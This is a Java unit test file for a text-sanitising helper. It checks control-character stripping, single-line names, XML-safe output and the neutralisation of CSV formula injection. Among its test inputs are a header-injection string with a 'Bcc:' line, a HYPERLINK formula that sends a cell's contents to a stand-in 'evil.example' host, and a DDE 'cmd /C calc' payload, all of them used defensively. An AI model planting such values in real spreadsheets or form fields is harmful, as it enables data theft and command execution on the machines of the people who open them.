package dev.drivecat.common;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class TextTest {

    /** What a page or an import may carry: every C0 and C1 control, DEL, noncharacters, lone surrogates. */
    static String hostile() {
        StringBuilder s = new StringBuilder("a");
        for (int c = 0; c < 0x20; c++) {
            s.append((char) c);
        }
        s.append('\u007f');
        for (int c = 0x80; c <= 0x9f; c++) {
            s.append((char) c);
        }
        s.append('\ufdd0').append('\ufdef').append('\ufffe').append('\uffff').appendCodePoint(0x1fffe).appendCodePoint(0x10ffff)
                .append('\ud800').append('b').append('\udc00');
        return s.append('z').toString();
    }

    @Test
    void cleanKeepsTabsAndLineFeedsAndNothingElseOfTheControls() {
        assertThat(Text.clean(hostile())).isEqualTo("a\t\n\nbz"); // the \r became a line feed: CR/LF and CR are one break each
        assertThat(Text.clean("one\r\ntwo\rthree\nfour")).isEqualTo("one\ntwo\nthree\nfour");
        String fine = "Optane 900P — 280 GB ½ ✓ 😀 Ω";
        assertThat(Text.clean(fine)).isSameAs(fine);
        assertThat(Text.clean(null)).isNull();
        assertThat(Text.firstRemoved(fine + "\r\n\t")).isEqualTo(-1);
        assertThat(Text.firstRemoved("ab\u000bc")).isEqualTo(2);
        assertThat(Text.firstRemoved("x\ufffe")).isEqualTo(1);
    }

    @Test
    void aNameIsOneLine() {
        assertThat(Text.singleLine("Model \r\nBcc: x@evil.example\ufffe")).isEqualTo("Model Bcc: x@evil.example");
        assertThat(Text.singleLine("  In stock.\n\n\tOnly 2 left  ")).isEqualTo("In stock. Only 2 left");
        assertThat(Text.singleLine("a\u2028b\u2029c")).isEqualTo("a b c");
        assertThat(Text.singleLine(hostile())).isEqualTo("a bz");
    }

    @Test
    void xmlWritersEmitOnlyWhatXml10sCharProductionHolds() {
        String xml = Text.forXml(hostile());
        assertThat(Text.firstNotXml(xml)).isEqualTo(-1);
        assertThat(xml).contains("\t\n").contains("\r").contains("\ufffd");
        assertThat(Text.forXml("Seller\u0001\u000b\ufffe")).isEqualTo("Seller\ufffd\ufffd\ufffd");
        assertThat(Text.isXmlChar(0x10ffff)).isTrue();
        assertThat(Text.isXmlChar(0xfffe)).isFalse();
    }

    @Test
    void csvCellsThatSpreadsheetsReadAsFormulasAreNeutralisedAndNumbersStayNumbers() {
        for (String formula : List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
                "\t=1", "\r=1", "\n=1", "-", "+")) {
            assertThat(Text.csvCell(formula)).as(formula).isEqualTo("'" + formula);
        }
        for (String kept : List.of("-12.50", "+7", "420.00", "Ships from and sold by Amazon.com", "", "'=already")) {
            assertThat(Text.csvCell(kept)).as(kept).isEqualTo(kept);
        }
    }

    @Test
    void quotedValuesAreShortAndShowTheirControlCharacters() {
        assertThat(Text.quote("a\r\nb\u0000\u001b[2J")).isEqualTo("a\\r\\nb\\u0000\\u001b[2J");
        assertThat(Text.quote("x".repeat(5000))).isEqualTo("x".repeat(Text.QUOTED_LENGTH) + "… (5000 characters)");
        assertThat(Text.quote("😀".repeat(30))).doesNotContain("\ud83d…");
        assertThat(Text.escape("\ud800")).isEqualTo("\\ud800");
        assertThat(Text.escape("😀")).isEqualTo("😀");
    }
}
